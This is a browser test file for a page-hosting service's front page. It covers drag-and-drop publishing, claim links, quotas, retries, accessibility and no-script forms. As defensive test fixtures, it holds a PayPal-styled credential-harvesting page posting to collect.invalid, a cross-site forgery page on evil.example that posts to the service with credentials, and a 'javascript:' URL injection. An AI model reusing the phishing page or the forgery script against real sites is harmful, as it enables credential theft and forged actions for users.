// The front page for people: a file dropped there becomes a link without an account, at desk and phone width, with and
// without a script. Every refusal says what to do, and the claim link is kept until the page belongs to an account.

import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { assertAccessible } from './axe.mjs';
import { launch, openPage, pictureFile, VIEWS } from './browser.mjs';
import { request } from './http.mjs';
import { signIn } from './people.mjs';
import { assertReadable, examine } from './readable.mjs';
import * as samples from './samples.mjs';
import { startServer, tempDir } from './server.mjs';
import { startForeignSite } from './foreign-site.mjs';

const LIMIT = 200_000;
const EVIL = 'evil.example';
const HARVEST = `<!doctype html><title>PayPal: confirm your account</title>
<h1>Your PayPal account is limited</h1>
<form method=post action="https://collect.invalid/take"><input name=email placeholder="E-mail"><input type=password name=password placeholder="PayPal password"><button>Log in</button></form>`;

let server, scarce, off, browser, folder;

before(async () => {
  const exempt = { DROPLEAF_LIMITS__EXEMPT: '127.0.0.0/8,::1/128', DROPLEAF_LIMITS__UPLOAD_BYTES: String(LIMIT) };
  [server, scarce, off] = await Promise.all([
    startServer({ env: exempt }),
    startServer({ env: { DROPLEAF_LIMITS__ANONYMOUS_PER_HOUR: '1' } }),
    startServer({ env: { DROPLEAF_LIMITS__ANONYMOUS_PER_DAY: '0' } }),
  ]);
  browser = await launch({ hosts: [EVIL] });
  folder = await tempDir('front-page');
});
after(async () => {
  await browser?.close();
  await Promise.all([server, scarce, off].map((one) => one?.stop()));
});

/** The front page, with the browser's own drags. */
async function visit(options = {}, at = server) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: at.url });
  const page = await openPage(context);
  // The browser itself reports every refused upload in the console.
  page.faults = () => page.complaints.filter((text) => !/status of 4\d\d/.test(text));
  await page.goto(`${at.url}/`);
  const debug = await context.newCDPSession(page);
  const send = (type, files, x, y) =>
    debug.send('Input.dispatchDragEvent', { type, x, y, data: { items: [], files, dragOperationsMask: 19 } });
  page.drag = async (files, x = 100, y = 40) => {
    await send('dragEnter', files, x, y);
    await send('dragOver', files, x, y);
  };
  page.dropAt = async (files, x = 100, y = 40) => {
    await page.drag(files, x, y);
    await send('drop', files, x, y);
  };
  return page;
}

async function file(name, text) {
  const at = path.join(folder, name);
  await writeFile(at, text);
  return at;
}

const memory = (name, text) => ({ name, mimeType: 'text/html', buffer: Buffer.from(text) });
const kept = (page) => page.evaluate(() => JSON.parse(localStorage.getItem('dropleaf-pages') ?? '[]'));
const good = (page) => page.locator('.sending li.good').last();
const bad = (page) => page.locator('.sending li.bad').last();

for (const { name, viewport, colorScheme } of VIEWS) {
  test(`a file dropped on the front page becomes a link: ${name}`, async () => {
    const page = await visit({ viewport, colorScheme });
    assert.equal(await page.getByText('Pages from this browser').isVisible(), false);
    await assertAccessible(page, `front page, ${name}`);
    await page.screenshot({ path: pictureFile(`front-page-${name}`) });
    const elsewhere = [];
    page.on('request', (sent) => { if (new URL(sent.url()).origin !== server.url) elsewhere.push(sent.url()); });

    const report = await file('report.html', samples.html(`Report ${name}`));
    await page.drag([report]);
    await page.waitForSelector('.drop-overlay:visible');
    await page.dropAt([report]);
    await good(page).waitFor();
    assert.equal(await page.locator('.drop-overlay').isVisible(), false);
    assert.match(await good(page).innerText(), new RegExp(`Report ${name}`));
    assert.match(await good(page).innerText(), /Expires .+\d/);
    const link = await good(page).locator('a.mono').getAttribute('href');
    const token = new URL(link).pathname;
    assert.equal((await request(server, { path: token })).status, 200, 'the link works');

    await good(page).getByRole('button', { name: 'Copy link' }).click();
    await page.waitForSelector('#announced:has-text("Copied")', { state: 'attached' });
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), link);
    await good(page).getByRole('button', { name: 'Copy claim link' }).click();
    const [entry, ...others] = await kept(page);
    assert.deepEqual(others, []);
    await page.waitForFunction((claim) => navigator.clipboard.readText().then((text) => text.endsWith(claim)), `/claim/${entry.id}#${entry.claim}`);
    assert.ok(entry.url === link && entry.expires > Date.now() / 1000 + 23 * 3600);
    assert.equal((await page.locator('body').innerText()).includes(entry.claim), false, 'the token is not shown');

    const list = page.locator('[data-kept-pages]');
    assert.match(await list.innerText(), new RegExp(`Report ${name}`));
    assert.deepEqual(elsewhere, [], 'nothing is sent to another origin');
    await assertAccessible(page, `after an upload, ${name}`);
    assertReadable(await page.evaluate(examine), name);
    await page.screenshot({ path: pictureFile(`front-page-published-${name}`), fullPage: true });
    const opened = page.waitForEvent('popup');
    await good(page).getByRole('link', { name: /^Open/ }).click();
    assert.equal(await (await opened).textContent('h1'), `Report ${name}`);
    assert.deepEqual(page.faults(), []);
    await page.context().close();
  });
}

test('a chosen file and typed text are published too, with the keyboard alone', async () => {
  const page = await visit();
  const chooser = page.waitForEvent('filechooser');
  await page.focus('#file');
  await page.keyboard.press('Enter');
  await (await chooser).setFiles([memory('chosen.html', samples.html('Chosen'))]);
  await page.waitForSelector('.sending li.good:has-text("Chosen")');

  await page.focus('summary');
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Publish text' }).click();
  assert.equal(await page.locator('.sending li').count(), 1, 'an empty text is not sent');
  await page.fill('#text', '# Notes\n\nTyped by hand.');
  await page.getByRole('button', { name: 'Publish text' }).press('Enter');
  await page.waitForSelector('.sending li.good:has-text("Notes")');
  const link = await good(page).locator('a.mono').getAttribute('href');
  assert.match((await request(server, { path: new URL(link).pathname })).text(), /<h1[^>]*>.*Notes/);
  await page.focus('#text').catch(() => {});
  await page.locator('summary').click();
  await page.evaluate(() => navigator.clipboard.writeText('<!doctype html><title>Pasted</title><h1>Pasted</h1>'));
  await page.focus('#text');
  await page.keyboard.press('Control+V');
  await page.waitForFunction(() => document.querySelector('#text-kind').value === 'html');
  assert.equal((await kept(page)).length, 2);
  assert.deepEqual(page.faults(), []);
});

test('every refusal says what to do', async () => {
  const page = await visit();
  await page.dropAt([await file('large.txt', 'x'.repeat(LIMIT + 1))]);
  await page.waitForSelector('.sending li.bad:has-text("The limit is")');
  await page.dropAt([await file('program.exe', 'MZ')]);
  await page.waitForFunction(() => document.querySelectorAll('.sending li.bad').length === 2);
  const inside = path.join(folder, 'folder');
  await mkdir(inside, { recursive: true });
  await page.dropAt([inside]);
  await page.waitForSelector('.sending li.bad:has-text(".zip")');
  await page.dropAt([await file('login.html', HARVEST)]);
  await page.waitForSelector('.sending li.bad ol.reasons');
  const told = await bad(page).innerText();
  for (const words of [/looks like phishing/, /collect\.invalid/, /index\.html, line 3/, /Was it refused by mistake\?/]) assert.match(told, words);
  assert.match(await bad(page).getByRole('link').getAttribute('href'), /^\/login\?next=/);
  await assertAccessible(page, 'refusals');
  await page.screenshot({ path: pictureFile('front-page-refused'), fullPage: true });
  assert.deepEqual(await kept(page), []);
  assert.deepEqual(page.faults(), []);
});

test('a used up quota says when to try again, and is the one of the API', async () => {
  const page = await visit({}, scarce);
  // From the browser, which may reach the server by another address of this machine than a plain client.
  const first = await page.evaluate(async (html) => {
    const body = new FormData();
    body.append('file', new File([html], 'first.html'));
    return (await fetch('/sites', { method: 'POST', body })).status;
  }, samples.html('First'));
  assert.equal(first, 201);
  await page.setInputFiles('#file', [memory('second.html', samples.html('Second'))]);
  await bad(page).waitFor();
  assert.match(await bad(page).innerText(), /Try again in (a minute|\d+ minutes), or sign in/);
  const plain = await visit({ javaScriptEnabled: false }, scarce);
  await plain.setInputFiles('#file', [memory('second.html', samples.html('Second'))]);
  await plain.click('.zone button');
  assert.match(await plain.locator('.problem').innerText(), /Try again in/);
  assert.equal(await plain.locator('form').count(), 0, 'a form would only be refused again');
});

test('a lost connection can be tried again, and publishes nothing twice', async () => {
  const page = await visit();
  const answers = [];
  await page.route('**/drop', async (route) => {
    const response = await route.fetch();
    answers.push((await response.json()).id);
    // The first answer is lost on its way back.
    if (answers.length === 1) await route.abort('connectionreset');
    else await route.fulfill({ response });
  });
  await page.setInputFiles('#file', [memory('once.html', samples.html('Once'))]);
  await page.getByRole('button', { name: 'Try again' }).click();
  await good(page).waitFor();
  assert.equal(answers.length, 2);
  assert.equal(answers[0], answers[1]);
});

test('a page is claimed after signing in, and is then no longer kept', async () => {
  const page = await visit();
  await page.setInputFiles('#file', [memory('mine.html', samples.html('Mine to keep'))]);
  await good(page).waitFor();
  const [entry] = await kept(page);
  await page.reload();
  await page.locator('[data-kept-pages]').getByRole('link', { name: 'Claim Mine to keep' }).click();
  await page.waitForURL(`${server.url}/claim/${entry.id}`);
  await signIn(page, server, 'keeper@example.org', `/claim/${entry.id}`);
  await page.click('form[action^="/claim/"] button');
  await page.waitForURL(`${server.url}/dashboard/pages/${entry.id}**`);
  assert.equal(await page.textContent('h1'), 'Mine to keep');
  assert.deepEqual(await kept(page), []);
  assert.deepEqual(page.faults(), []);
});

test('the dashboard lists the pages of this browser', async () => {
  const page = await visit();
  await page.setInputFiles('#file', [memory('later.html', samples.html('Claim me later'))]);
  await good(page).waitFor();
  await signIn(page, server, 'later@example.org');
  await page.goto(`${server.url}/dashboard`);
  const list = page.locator('[data-kept-pages]');
  assert.match(await list.innerText(), /Claim me later/);
  await assertAccessible(page, 'dashboard with pages of this browser');
  await page.screenshot({ path: pictureFile('dashboard-kept-pages') });
  await list.getByRole('link', { name: 'Claim Claim me later' }).click();
  await page.click('form[action^="/claim/"] button');
  await page.waitForURL(`${server.url}/dashboard/pages/**`);
  await page.goto(`${server.url}/dashboard`);
  assert.equal(await list.isVisible(), false);
});

test('kept pages are bounded, expire, and can be forgotten', async () => {
  const page = await visit();
  const soon = Math.floor(Date.now() / 1000) + 3600;
  const entry = (n, more = {}) => ({ id: `site_${n}`, title: `Page ${n}`, url: `${server.url}/p/x/`, claim: 'clm_x', expires: soon, ...more });
  const odd = [null, 5, { id: 'site_a' }, entry('b', { expires: soon - 7200 }), entry('c', { url: 'javascript:alert(1)' }), entry('d', { claim: 'x' })];
  const many = Array.from({ length: 30 }, (_, n) => entry(n));
  await page.evaluate((pages) => localStorage.setItem('dropleaf-pages', JSON.stringify(pages)), [...odd, ...many]);
  await page.reload();
  const rows = page.locator('[data-kept-pages] li');
  assert.equal(await rows.count(), 20);
  page.once('dialog', (dialog) => dialog.accept());
  await rows.first().getByRole('button', { name: 'Forget Page 0' }).click();
  assert.equal(await rows.count(), 19);
  assert.equal((await kept(page)).length, 19);
  await page.evaluate(() => localStorage.setItem('dropleaf-pages', '{broken'));
  await page.reload();
  assert.equal(await page.locator('[data-kept-pages]').isVisible(), false);
  assert.deepEqual(page.faults(), []);
});

for (const { name, viewport, colorScheme } of VIEWS) {
  test(`without a script the form leads to a page with the link: ${name}`, async () => {
    const page = await visit({ javaScriptEnabled: false, viewport, colorScheme });
    assert.equal(await page.locator('[data-copy], [data-text]:visible, [data-kept-pages]:visible').count(), 0);
    await page.setInputFiles('#file', [memory('plain.html', samples.html(`Plain ${name}`))]);
    await page.click('.zone button');
    await page.waitForURL(`${server.url}/drop`);
    assert.equal(await page.textContent('h1'), 'Your page is online');
    await page.screenshot({ path: pictureFile(`front-page-plain-${name}`) });
    const claim = await page.locator('a[href*="/claim/"]').getAttribute('href');
    assert.match(claim, /\/claim\/site_[0-9a-z]+#clm_\w+$/);
    const link = await page.locator('#link').getAttribute('href');
    await page.getByRole('link', { name: 'Open' }).click();
    assert.equal(await page.textContent('h1'), `Plain ${name}`);
    assert.equal((await request(server, { path: new URL(link).pathname })).status, 200);

    await page.goto(`${server.url}/`);
    await page.setInputFiles('#file', [memory('login.html', HARVEST)]);
    await page.click('.zone button');
    assert.equal(await page.textContent('h1'), 'Not published');
    assert.ok((await page.locator('ol.reasons > li').count()) >= 3);
    assert.equal(await page.locator('form[action="/drop"]').count(), 1);
    await page.screenshot({ path: pictureFile(`front-page-plain-refused-${name}`), fullPage: true });
    await page.context().close();
  });
}

test('the pages after a plain form are accessible', async () => {
  for (const colorScheme of ['light', 'dark']) {
    const page = await visit({ colorScheme });
    for (const text of [samples.html('Accessible'), HARVEST]) {
      await page.goto(`${server.url}/`);
      await page.evaluate((html) => {
        const data = new DataTransfer();
        data.items.add(new File([html], 'page.html', { type: 'text/html' }));
        const form = document.querySelector('form[data-upload]');
        const bare = form.cloneNode(true);
        form.replaceWith(bare);
        bare.querySelector('input').files = data.files;
        bare.submit();
      }, text);
      await page.waitForURL(`${server.url}/drop`);
      await assertAccessible(page, `${colorScheme} ${await page.title()}`);
      assertReadable(await page.evaluate(examine), colorScheme);
    }
    await page.context().close();
  }
});

test('every command can be copied', async () => {
  const page = await visit();
  const commands = page.locator('code.command');
  const count = await commands.count();
  assert.ok(count > 6);
  assert.equal(await page.locator('button.copy').count(), count);
  for (const at of [0, count - 1]) {
    await page.locator('button.copy').nth(at).click();
    await page.waitForFunction((text) => navigator.clipboard.readText().then((copied) => copied === text), (await commands.nth(at).textContent()).trim());
  }
});

test('a server without anonymous pages shows no drop zone and refuses the form', async () => {
  const page = await visit({}, off);
  assert.equal(await page.locator('form, [data-kept-pages]').count(), 0);
  assert.ok((await page.locator('button.copy').count()) > 4);
  await page.screenshot({ path: pictureFile('front-page-off') });
  const status = await page.evaluate(async () => {
    const body = new FormData();
    body.append('file', new File(['<p>x'], 'x.html'));
    return (await fetch('/drop', { method: 'POST', body, headers: { accept: 'application/json' } })).status;
  });
  assert.equal(status, 401);
});

test('another site cannot publish from a visitor, signed in or not', async () => {
  const foreign = await startForeignSite();
  const page = await visit();
  await signIn(page, server, 'victim@example.org');
  foreign.pages['/'] = `<!doctype html><title>Win a prize</title><form method="post" action="${server.url}/drop" enctype="multipart/form-data"><textarea name="file">x</textarea><button>Go</button></form>
<script>window.done = fetch('${server.url}/drop', { method: 'POST', mode: 'no-cors', credentials: 'include', body: (() => { const f = new FormData(); f.append('file', new File(['<h1>x'], 'x.html')); return f; })() }).catch(() => {});</script>`;
  const statuses = [];
  page.on('response', (response) => { if (response.url() === `${server.url}/drop`) statuses.push(response.status()); });
  for (const origin of [`http://${EVIL}:${foreign.port}`, `http://localhost:${foreign.port}`]) {
    await page.goto(`${origin}/`);
    await page.evaluate(() => window.done);
    await page.click('button');
    await page.waitForURL(`${server.url}/drop`);
  }
  assert.ok(statuses.length >= 2 && statuses.every((status) => status === 403), String(statuses));
  await foreign.stop();
});
